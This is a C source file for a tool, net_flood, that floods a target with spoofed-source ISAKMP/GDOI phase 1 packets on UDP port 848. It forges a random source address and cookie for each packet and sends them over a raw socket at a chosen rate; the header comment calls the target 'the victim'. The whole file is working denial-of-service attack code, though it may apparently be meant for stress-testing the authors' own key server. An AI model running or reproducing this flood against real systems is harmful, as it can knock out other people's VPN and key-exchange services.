/* First messages of phase 1 under borrowed addresses, as fast as asked: each
 * from a random source in 10.128.0.0/9 with a random cookie.
 *
 *   net_flood -d ADDRESS -r PACKETS-PER-SECOND -t SECONDS [-H HASH] [-g GROUP]
 *	[-a] [-v]
 *
 * HASH and GROUP are the wire's numbers of an offer that the victim takes; -a
 * asks for Aggressive Mode (group 5), -v makes every offer a different one.
 *Prints how many it sent, and how fast. */
#include "base/rd.h"
#include "base/wr.h"
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH         64
#define HEADERS       (sizeof(struct iphdr) + sizeof(struct udphdr))
#define MESSAGE_MAX   512
#define NEXT_SA       1
#define NEXT_KE       4
#define NEXT_ID       5
#define NEXT_NONCE    10
#define SA_BYTES      (4 + 8 + 8 + 8 + 5 * 4 + 4 + 8)
#define GROUP_5_BYTES 192
#define GDOI_PORT     848
#define SOURCES       0x0a800000u
#define SOURCE_MASK   0x007fffffu

struct flood {
	in_addr_t to;
	unsigned rate, secs, hash, group;
	bool vary, aggressive;
	uint64_t random;
	size_t message_n, life_at;
	uint8_t message[MESSAGE_MAX];
	uint8_t packet[BATCH][HEADERS + MESSAGE_MAX];
	struct iovec iov[BATCH];
	struct mmsghdr m[BATCH];
	struct sockaddr_in dst;
};

/* xorshift: nobody has to be surprised by it. */
static uint64_t random_next(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 7;
	f->random ^= f->random << 17;
	return f->random;
}

static void attr(struct wr *w, uint16_t type, uint16_t value)
{
	wr_u16(w, 0x8000 | type);
	wr_u16(w, value);
}

static void payload(struct wr *w, uint8_t next, size_t n)
{
	wr_u8(w, next);
	wr_u8(w, 0);
	wr_u16(w, (uint16_t)(n + 4));
	for (size_t i = 0; i < n; i++)
		wr_u8(w, 0x55);
}

/* A public value, a nonce, and an identity of type FQDN. */
static void rest_put(struct wr *w)
{
	payload(w, NEXT_NONCE, GROUP_5_BYTES);
	payload(w, NEXT_ID, 20);
	payload(w, 0, 0);
	w->len -= 2;
	wr_u16(w, 4 + 4 + 3);
	wr_u32(w, 2u << 24);
	wr_bytes(w, "gm1", 3);
}

/* Header, SA with one transform: AES-128 and a pre-shared key. */
static void message_make(struct flood *f)
{
	struct wr w = wr_init(f->message, sizeof(f->message));

	wr_zero(&w, 16); /* cookies */
	wr_u8(&w, NEXT_SA);
	wr_u8(&w, 0x10);
	wr_u8(&w, f->aggressive ? 4 : 2);
	wr_zero(&w, 5);
	size_t length_at = w.len;

	wr_u32(&w, 0);
	wr_u16(&w, f->aggressive ? NEXT_KE << 8 : 0);
	wr_u16(&w, SA_BYTES);
	wr_u32(&w, 2); /* DOI GDOI, no situation */
	wr_u32(&w, 0);
	wr_u16(&w, 0);
	wr_u16(&w, 8 + 8 + 5 * 4 + 4 + 8);
	wr_u32(&w, 0x01010001); /* proposal 1, ISAKMP, one transform */
	wr_u16(&w, 0);
	wr_u16(&w, 8 + 5 * 4 + 4 + 8);
	wr_u32(&w, 0x01010000); /* transform 1, KEY_IKE */
	attr(&w, 1, 7);
	attr(&w, 14, 128);
	attr(&w, 2, (uint16_t)f->hash);
	attr(&w, 4, (uint16_t)f->group);
	attr(&w, 3, 1);
	attr(&w, 11, 1);
	wr_u16(&w, 12);
	wr_u16(&w, 4);
	f->life_at = w.len;
	wr_u32(&w, 86400);
	if (f->aggressive)
		rest_put(&w);
	f->message_n = w.len;
	w.len = length_at;
	wr_u32(&w, (uint32_t)f->message_n);
}

static void packet_make(struct flood *f, unsigned i)
{
	uint8_t *p = f->packet[i];
	size_t n = HEADERS + f->message_n;
	struct iphdr ip = { .version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons((uint16_t)n),
		.saddr = htonl(
			SOURCES | ((uint32_t)random_next(f) & SOURCE_MASK)),
		.daddr = f->to };
	struct udphdr udp = { .source = htons(GDOI_PORT),
		.dest = htons(GDOI_PORT),
		.len = htons((uint16_t)(n - sizeof(ip))) };
	uint64_t cookie = random_next(f);

	memcpy(p, &ip, sizeof(ip));
	memcpy(p + sizeof(ip), &udp, sizeof(udp));
	memcpy(p + HEADERS, f->message, f->message_n);
	memcpy(p + HEADERS, &cookie, sizeof(cookie));
	if (f->vary) /* a life of so many seconds */
		memcpy(p + HEADERS + f->life_at + 1, &cookie, 2);
	f->iov[i].iov_len = n;
}

static void buffers_init(struct flood *f)
{
	f->dst = (struct sockaddr_in){ .sin_family = AF_INET,
		.sin_addr.s_addr = f->to };
	for (unsigned i = 0; i < BATCH; i++) {
		f->iov[i].iov_base = f->packet[i];
		f->m[i].msg_hdr = (struct msghdr){ .msg_name = &f->dst,
			.msg_namelen = sizeof(f->dst),
			.msg_iov = &f->iov[i],
			.msg_iovlen = 1 };
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void nap(void)
{
	const struct timespec t = { .tv_nsec = 200000 };

	nanosleep(&t, NULL);
}

static int run(struct flood *f, int fd)
{
	double start = now(), at;
	uint64_t sent = 0;

	while ((at = now() - start) < f->secs) {
		if ((double)sent > at * f->rate) {
			nap();
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++)
			packet_make(f, i);
		int n = sendmmsg(fd, f->m, BATCH, 0);

		if (n < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("sendmmsg");
			return 1;
		}
		sent += n > 0 ? (unsigned)n : 0;
	}
	printf("%llu packets, %.0f/s\n", (unsigned long long)sent,
		(double)sent / (now() - start));
	return 0;
}

static int usage(void)
{
	fputs("usage: net_flood -d ADDRESS -r RATE -t SECONDS [-H HASH] "
	      "[-g GROUP] [-a] [-v]\n",
		stderr);
	return 2;
}

int main(int argc, char **argv)
{
	static struct flood f = { .hash = 4, .group = 14 };
	int c;

	while ((c = getopt(argc, argv, "d:r:t:H:g:av")) != -1) {
		switch (c) {
		case 'd':
			f.to = inet_addr(optarg);
			break;
		case 'r':
			f.rate = (unsigned)atoi(optarg);
			break;
		case 't':
			f.secs = (unsigned)atoi(optarg);
			break;
		case 'H':
			f.hash = (unsigned)atoi(optarg);
			break;
		case 'g':
			f.group = (unsigned)atoi(optarg);
			break;
		case 'a':
			f.aggressive = true;
			break;
		case 'v':
			f.vary = true;
			break;
		default:
			return usage();
		}
	}
	if (f.to == 0 || f.to == INADDR_NONE || f.rate == 0 || f.secs == 0)
		return usage();
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (fd < 0) {
		perror("raw socket");
		return 1;
	}
	f.random = (uint64_t)(now() * 1e9) | 1;
	message_make(&f);
	buffers_init(&f);
	return run(&f, fd);
}
